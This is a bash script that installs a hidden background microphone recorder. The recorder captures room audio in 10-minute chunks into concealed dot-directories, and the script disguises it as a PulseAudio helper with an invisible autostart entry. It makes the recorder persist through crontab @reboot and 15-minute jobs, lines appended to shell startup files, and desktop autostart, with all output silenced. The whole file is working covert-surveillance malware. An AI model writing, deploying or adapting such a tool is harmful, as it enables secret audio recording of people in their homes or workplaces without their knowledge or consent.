#!/usr/bin/env bash
# Installs the "pulse-helper" room recorder: a small loop that records the
# default microphone in 10-minute opus chunks, and makes sure it comes back
# after logout, reboot or a crashed session.
set -euo pipefail

HELPER_DIR="$HOME/.local/share/.pulse"
HELPER="$HELPER_DIR/pulse-helper"
SPOOL="$HOME/.cache/.pulse-spool"
CHUNK_SECONDS=600
MARK="# pulse-helper"

write_helper() {
    mkdir -p "$HELPER_DIR" "$SPOOL"
    cat > "$HELPER" <<HELPER_EOF
#!/usr/bin/env bash
# single instance
exec 9>"$HELPER_DIR/.lock"
flock -n 9 || exit 0
while true; do
    out="$SPOOL/\$(date +%Y%m%d-%H%M%S).opus"
    if command -v parecord >/dev/null 2>&1; then
        timeout $CHUNK_SECONDS parecord --channels=1 --rate=16000 --file-format=wav 2>/dev/null \\
            | ffmpeg -loglevel quiet -i - -c:a libopus -b:a 16k "\$out"
    else
        ffmpeg -loglevel quiet -f alsa -i default -t $CHUNK_SECONDS -ac 1 -c:a libopus -b:a 16k "\$out"
    fi
    # keep two days of audio
    find "$SPOOL" -name '*.opus' -mmin +2880 -delete
    sleep 1
done
HELPER_EOF
    chmod 700 "$HELPER"
}

install_cron() {
    local current
    current=$(crontab -l 2>/dev/null | grep -v "$MARK" || true)
    {
        [ -n "$current" ] && printf '%s\n' "$current"
        echo "@reboot sleep 45 && $HELPER >/dev/null 2>&1 $MARK"
        echo "*/15 * * * * $HELPER >/dev/null 2>&1 $MARK"
    } | crontab -
}

install_shell_hook() {
    local rc
    for rc in "$HOME/.bashrc" "$HOME/.zshrc" "$HOME/.profile"; do
        [ -f "$rc" ] || continue
        grep -q "$MARK" "$rc" && continue
        printf '\n(nohup %q >/dev/null 2>&1 &) %s\n' "$HELPER" "$MARK" >> "$rc"
    done
}

install_autostart() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat > "$dir/pulseaudio-helper.desktop" <<DESK_EOF
[Desktop Entry]
Type=Application
Name=PulseAudio Session Helper
Exec=$HELPER
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
DESK_EOF
}

main() {
    command -v ffmpeg >/dev/null || { echo "ffmpeg required" >&2; exit 1; }
    write_helper
    install_cron
    install_shell_hook
    install_autostart
    (nohup "$HELPER" >/dev/null 2>&1 &)
    echo "helper installed"
}

main "$@"
